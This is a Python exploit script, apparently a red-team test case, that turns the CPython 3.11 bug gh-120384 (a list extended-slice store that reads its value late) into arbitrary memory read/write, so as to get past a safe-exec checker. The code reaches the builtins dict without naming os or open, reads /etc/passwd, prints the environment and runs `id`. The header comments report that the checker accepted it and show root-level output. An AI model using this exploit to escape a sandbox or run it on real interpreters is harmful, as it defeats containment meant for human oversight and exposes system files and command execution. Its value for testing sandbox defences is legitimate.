# family: wall (memory: gh-120384, a list's extended-slice store reads its value late)   goal: passwd
# verified: reaches its goal under plain python3 (3.11) in a temp dir (member of the runtime wall red team's gh-120384 family, round 5)
# Mechanism: CPython 3.11 before 3.11.10 (the image has 3.11.2) has gh-120384: list_ass_subscript
#   computes an extended slice's length before PySequence_Fast reads the value; code that
#   runs while the value is read shrinks the list (del a bytes object next to a victim,
#   clear, extend by 12: the new item array takes the freed hole) and the one-slot write
#   lands on the victim's ob_type: a bytes object becomes a bytearray whose buffer is a real
#   bytearray's header, hence read/write over the whole address space. The builtins dict is
#   then read out of a function object and written into a list slot.
# This member: the value is a generator: its first next() yields, its second shrinks the list (the red team's trigger, reduced).
# Goal reached: read /etc/passwd, printed the environment, ran `id` (neither os nor open() is named in the text)
# Checker before the memory rule: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir with env -i:
#   | arbitrary read/write: True
#   | root:x:0:0:root:/root:/bin/bash
#   | environment: ['HOME', 'LC_CTYPE', 'MARKER']
#   | uid=0(root) gid=0(root) groups=0(root)
# line: 42
def make_rw():
    R = bytearray(64)
    payload = (0).to_bytes(8, "little") + id(R).to_bytes(8, "little") + bytes(40)
    for attempt in range(50):
        objs = [payload[:-1] + bytes([i % 251]) for i in range(400)]
        ks = [k for k in range(200, 398) if id(objs[k]) + 96 == id(objs[k + 1])]
        if not ks:
            continue
        k = ks[0]
        victim = objs[k + 1]
        lst = [None] * 16
        six = [None] * 12

        def mutate():
            del objs[k]          # a hole just before victim
            lst.clear()          # the old item array is freed
            lst.extend(six)      # the new one (96 bytes) takes the hole

        def gen():
            yield bytearray
            mutate()

        try:
            lst[13:14:2] = gen()   # slicelength 1, computed before gen runs
        except Exception as e:
            print("exc", e)
        if type(victim) is bytearray:   # the one-slot write landed on its ob_type
            victim[16:24] = (1 << 62).to_bytes(8, "little")   # R.ob_size
            victim[40:48] = (0).to_bytes(8, "little")         # R.ob_start
            return R, (objs, victim)
    return None, None


R, keep = make_rw()
print("arbitrary read/write:", R is not None)


def rd(a):
    return int.from_bytes(R[a:a + 8], "little")


def wr(a, v):
    R[a:a + 8] = v.to_bytes(8, "little")


def f():
    pass


builtins_addr = rd(id(f) + 24)              # PyFunctionObject.func_builtins
box = [None]
wr(builtins_addr, rd(builtins_addr) + 1)    # a reference for the slot
wr(rd(id(box) + 24), builtins_addr)         # box's item 0 is now the builtins dict
B = box[0]
print(B["open"]("/etc/passwd").readline().strip())
os = B["__import__"]("os")
print("environment:", sorted(os.environ)[:3], flush=True)
os.system("id")
os.kill(os.getpid(), 9)   # no teardown of the forged objects
